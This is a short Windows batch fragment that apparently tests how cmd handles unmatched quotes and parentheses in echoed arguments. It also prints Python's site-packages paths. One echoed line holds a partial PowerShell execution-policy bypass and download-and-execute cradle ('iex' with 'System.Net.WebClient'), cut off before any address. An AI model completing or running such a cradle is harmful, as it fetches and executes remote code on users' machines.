@echo off
rem an open quote before ( or ) that are plain text in an argument anyway changes nothing
echo %white%  Bypass -Command "iex ((New-Object System.Net.WebClient).
"%PYDIR%\python.exe" -c "import site;print(site.getsitepackages())
